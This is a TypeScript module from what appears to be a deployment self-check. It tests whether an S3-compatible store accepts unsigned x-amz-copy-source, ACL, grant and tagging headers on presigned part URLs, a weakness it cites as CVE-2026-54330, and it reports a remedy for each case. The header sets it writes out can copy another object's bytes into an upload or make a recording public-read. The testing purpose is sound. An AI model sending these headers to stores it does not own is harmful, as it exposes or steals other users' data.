// Attacks that add an unsigned `x-amz-*` header to a part URL (CVE-2026-54330).
import type { Verdict } from '../check.ts';
import { type Attack, BODY, type Stage, type Target, VICTIM, verdictOn } from './attack.ts';

const REMEDY =
  'Set UPLOADS=proxy at once. Then see whether a later version of the store refuses it (Ceph: 19.2.6 or 20.2.4), and ' +
  'set S3_UPLOAD_ACCESS_KEY_ID to a key that may only s3:PutObject.';

/** The ways in which a store may take the source: with and without a slash, a range of the signed length, a length of 0. */
function sourcesOf(stage: Stage, victimKey: string): Record<string, string>[] {
  const { bucket, keyPrefix } = stage.deps.place;
  const path = `${bucket}/${keyPrefix}${victimKey}`;
  return [
    { 'x-amz-copy-source': `/${path}` },
    { 'x-amz-copy-source': path, 'x-amz-copy-source-range': `bytes=0-${BODY.length - 1}` },
    { 'x-amz-copy-source': `/${path}`, 'x-amz-decoded-content-length': '0' },
  ];
}

function copySource(id: string, name: string, body: Uint8Array): Attack {
  return {
    id,
    name,
    async run(stage) {
      const victim = await stage.stored('victim', VICTIM);
      const answers = [];
      let harm: string | undefined;
      for (const headers of sourcesOf(stage, victim.key)) {
        const target = await stage.upload('copy');
        answers.push(await stage.put(target.url, body, headers));
        harm ??= await stolen(stage, target);
      }
      return verdictOn({ answers, harm, mayBeIgnored: body.length === BODY.length, remedy: REMEDY });
    },
  };
}

/** Whatever the upload holds now and was not sent is somebody else's. */
async function stolen(stage: Stage, target: Target): Promise<string | undefined> {
  if (!(await stage.complete(target)) || (await stage.holds(target.key, BODY))) return undefined;
  return (await stage.holds(target.key, VICTIM))
    ? "another object's bytes became a part of this upload"
    : 'a part was stored that was not sent';
}

interface HeaderAttack {
  readonly id: string;
  readonly headers: readonly Readonly<Record<string, string>>[];
  readonly look: (stage: Stage, target: Target) => Promise<string | undefined>;
}

function ignoredHeader({ id, headers, look }: HeaderAttack): Attack {
  const [first = ''] = Object.keys(headers[0] ?? {});
  return {
    id,
    name: `part URL + ${first}`,
    async run(stage): Promise<Verdict> {
      const answers = [];
      let harm: string | undefined;
      for (const each of headers) {
        const target = await stage.upload('header');
        answers.push(await stage.put(target.url, BODY, each));
        // Refused: the part is put as its owner would, so that what the recording becomes can be seen.
        if ((await stage.parts(target)) === '') {
          await stage.deps.store.uploadPart(target.key, target.uploadId, 1, BODY);
        }
        await stage.complete(target);
        harm ??= await look(stage, target);
      }
      return verdictOn({ answers, harm, mayBeIgnored: true, remedy: REMEDY });
    },
  };
}

export const HEADER_ATTACKS: readonly Attack[] = [
  copySource('copy-source-with-body', 'part URL + x-amz-copy-source', BODY),
  copySource('copy-source-without-body', 'part URL + x-amz-copy-source, no body', new Uint8Array()),
  ignoredHeader({
    id: 'acl',
    headers: [
      { 'x-amz-acl': 'public-read' },
      { 'x-amz-grant-read': 'uri="http://acs.amazonaws.com/groups/global/AllUsers"' },
    ],
    async look(stage, { key }) {
      const { status } = await stage.wire.send(await stage.plainUrl(key));
      return status >= 200 && status < 400 ? 'anybody can read the recording' : undefined;
    },
  }),
  ignoredHeader({
    id: 'tagging',
    headers: [{ 'x-amz-tagging': 'doctor=was-here' }],
    async look(stage, { key }) {
      const tags = Object.keys((await stage.deps.store.tags(key)) ?? {});
      return tags.length > 0 ? "the recording's tags were set" : undefined;
    },
  }),
];
